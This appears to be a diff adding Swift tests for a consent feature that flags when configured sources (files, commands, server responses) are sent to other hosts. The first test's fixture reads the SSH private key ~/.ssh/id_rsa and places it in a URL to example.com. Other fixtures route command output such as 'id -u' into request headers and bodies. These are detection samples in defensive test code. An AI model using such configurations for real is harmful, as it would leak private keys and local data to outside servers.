@@ -1,0 +1,124 @@
+import Settings
+import Testing
+
+@testable import Boards
+
+/// Content of a source that another one takes somewhere.
+@Suite(.timeLimit(.minutes(3)))
+struct FlowConsentTests {
+
+    private func list(_ sources: String, items: [String: String] = [:]) throws -> ConsentList {
+        let (board, problems) = readBoard("sources:\n\(sources)", environment: ["HOME": "/home/me"])
+        #expect(problems.map(\.description) == [])
+        var settings = try #require(board)
+        if !items.isEmpty { settings.sources[settings.sources.count - 1].itemSources = items }
+        return settings.consentOfStranger
+    }
+
+    private func flows(_ sources: String) throws -> [String] {
+        try list(sources).items.filter { $0.kind == .content }.map(\.text)
+    }
+
+    @Test("A file that a GET to a public host carries is asked for")
+    func leak() throws {
+        let list = try list(
+            "  keys: { file: ~/.ssh/id_rsa }\n  it: { http: 'https://example.com/?k=${source.keys}' }\n")
+        #expect(list.items.map(\.text) == ["keys (file ~/.ssh/id_rsa) → https://example.com, in the URL"])
+    }
+
+    @Test(
+        "A line says from which file, command or server content comes, where it goes, and where in the request",
+        arguments: [
+            (
+                "a: { command: id -u }", "http: https://e.example, headers: { X-User: '${source.a}' }",
+                "a (command 'id -u') → https://e.example, header X-User"
+            ),
+            (
+                "a: { command: id, on: me@far }", "http: 'http://e.example/', method: POST, body: '${source.a}'",
+                "a (command id on me@far) → http://e.example (not encrypted), in the body"
+            ),
+            (
+                "a: { http: 'https://a.example/x' }", "command: x, env: { A: '${source.a}' }",
+                "a (https://a.example) → command of it, variable A"
+            ),
+            (
+                "a: { http: 'http://d/x', unix: /d.sock }", "command: x, on: '${source.a}'",
+                "a (/d.sock) → command of it on ${source.a}, in the name of the host"
+            ),
+            (
+                "a: { file: x }", "command: x, folder: '${source.a}'",
+                "a (file ./x) → command of it, in the folder"
+            ),
+            ("a: { file: x }", "file: '${source.a}.log'", "a (file ./x) → file ./${source.a}.log, in the file"),
+            (
+                "a: { file: x }", "http: 'https://${source.a.host}/x'",
+                "a (file ./x) → https://${source.a.host}/x (any public host), in the URL"
+            ),
+            (
+                "a: { file: x }", "http: 'https://${source.a.host}/x', hosts: ['*.e.example', 10.0.0.0/8]",
+                "a (file ./x) → https://${source.a.host}/x (any public host; headers and secrets only to *.e.example, 10.0.0.0/8), "
+                    + "in the URL"
+            ),
+        ])
+    func lines(giver: String, taker: String, line: String) throws {
+        #expect(try flows("  \(giver)\n  it: { \(taker) }\n") == [line])
+    }
+
+    @Test("Content of sources made of others names what they are made of")
+    func composed() throws {
+        let sources = """
+              a: { file: x }
+              b: { command: y, select: '. + $source.a' }
+              all: { from: [b] }
+              it: { http: 'https://e.example/${source.all.b}' }
+
+            """
+        #expect(
+            try flows(sources) == [
+                "all (file ./x of a) → https://e.example, in the URL",
+                "all (command y of b) → https://e.example, in the URL",
+            ])
+    }
+
+    @Test("Content that goes back to the server that gave it needs no line; another port, scheme or host does")
+    func back() throws {
+        func flows(_ giver: String, _ taker: String) throws -> Int {
+            try self.flows("  a: { http: '\(giver)' }\n  it: { http: '\(taker)' }\n").count
+        }
+        #expect(try flows("https://e.example/login", "https://E.example:443/x?t=${source.a.t}") == 0)
+        #expect(try flows("https://e.example/login", "https://e.example:444/x?t=${source.a.t}") == 1)
+        #expect(try flows("https://e.example/login", "http://e.example/x?t=${source.a.t}") == 1)
+        #expect(try flows("https://e.example/login", "https://api.e.example/x?t=${source.a.t}") == 1)
+        #expect(try flows("https://e.example/login", "${source.a.next}") == 1)
+    }
+
+    @Test("Items of a source are its content, and those of a list in the file need no line")
+    func items() throws {
+        func texts(_ items: [String: String]) throws -> [String] {
+            var (board, _) = readBoard(
+                "sources:\n  services: { file: x }\n  it: { http: 'https://e.example/a' }\n", environment: [:])
+            let place = SettingsPlace("board.yaml")
+            let url = SettingsText(
+                [
+                    .text("https://e.example/"),
+                    .content(ContentReference(.item, "service", path: [.field("name")], at: place)),
+                ], at: place)
+            board?.sources[1].origin = HTTPOrigin(url)
+            board?.sources[1].itemSources = items
+            return try #require(board).consentOfStranger.items.map(\.text)
+        }
+        #expect(try texts(["service": "services"]) == ["services (file ./x) → https://e.example, in the URL"])
+        #expect(try texts([:]) == [])
+    }
+
+    @Test("A key that gets the response of a request with content in it is told so")
+    func passedOn() throws {
+        let text = """
+            sources:
+              a: { file: x }
+              it: { http: 'https://e.example/${source.a}', alert: { failed: 1, run: say } }
+            """
+        let list = try #require(readBoard(text).board).consentOfStranger
+        #expect(list.items.contains { $0.text == "alert (gets response of 'https://e.example/${source.a}'): say" })
+    }
+}
